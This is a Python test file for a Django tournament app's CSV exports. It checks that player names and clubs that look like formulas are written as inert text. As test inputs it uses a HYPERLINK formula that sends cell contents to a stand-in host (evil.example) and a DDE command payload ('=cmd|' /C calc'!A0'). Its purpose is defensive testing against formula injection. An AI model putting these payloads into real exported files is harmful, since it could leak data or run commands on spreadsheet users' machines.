"""CSV exports never hand a spreadsheet a formula: names that look like one arrive as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from club.models import Player
from tests.tournaments.conftest import make_tournament, play_round, seats
from tournaments import spreadsheets

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your prize")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=", "'="),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna Ek", "Anna Ek"),
        ("Åsa = Ö", "Åsa = Ö"),
        ("", ""),
        (-12, -12),
        (0, 0),
        (2.5, 2.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(cell: Any, written: Any) -> None:
    assert spreadsheets.neutralised(cell) == written


def test_the_writer_writes_numbers_bare_and_formulas_as_text() -> None:
    stream = io.StringIO()
    spreadsheets.writer(stream, "en").writerow(["@SUM(A1)", -12, None, 'say "hi"', "+46 70"])
    assert stream.getvalue() == '\ufeff\'@SUM(A1),-12,,"say ""hi""",\'+46 70\r\n'


def test_a_swedish_reader_gets_cells_split_by_semicolons() -> None:
    stream = io.StringIO()
    spreadsheets.writer(stream, "sv").writerow(["Åsa Öberg", "Malmö; Lund", -12])
    assert stream.getvalue() == '\ufeffÅsa Öberg;"Malmö; Lund";-12\r\n'


@pytest.mark.django_db
def test_the_swedish_export_opens_in_a_swedish_spreadsheet_program(organiser: User) -> None:
    tournament = make_tournament(4, swiss_rounds=2)
    play_round(tournament, organiser)
    client = Client()  # Swedish, the site's language
    response = client.get(reverse("tournaments:standings_csv", args=[tournament.slug]))
    assert response.content.startswith("\ufeff".encode())  # read as UTF-8, å ä ö intact
    text = response.content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[:3] == ["Placering", "Spelare", "Klubb"]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert len(rows) == 4
    assert all(len(row) == len(header) for row in rows)


def read_csv(client: Client, name: str, slug: str) -> list[list[str]]:
    response = client.get(reverse(f"tournaments:{name}", args=[slug]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_exports_neutralise_names_and_keep_negative_spreads(organiser: User) -> None:
    tournament = make_tournament(4, swiss_rounds=2)
    names = [HYPERLINK, "+1", "@SUM(A1)", "-Lars"]
    for entry, name in zip(tournament.entries.order_by("pk"), names, strict=True):
        Player.objects.filter(pk=entry.player_id).update(name=name, club="=cmd|' /C calc'!A0")
    round_ = play_round(tournament, organiser)
    client = Client()
    client.cookies["django_language"] = "en"

    standings = read_csv(client, "standings_csv", tournament.slug)
    assert {row[1] for row in standings[1:]} == {"'" + name for name in names}
    assert {row[2] for row in standings[1:]} == {"'=cmd|' /C calc'!A0"}
    spreads = sorted(int(row[10]) for row in standings[1:])  # numbers, not "'-47"
    assert spreads[0] < 0 < spreads[-1]

    results = read_csv(client, "results_csv", tournament.slug)
    players = {cell for row in results[1:] for cell in row[2:4]}
    assert players == {"'" + name for name in names}
    first = seats(round_.matches.get(table=1))[0].entry.player.name
    assert all(row[5] == row[8] == "'" + first for row in results[1:] if row[1] == "1")
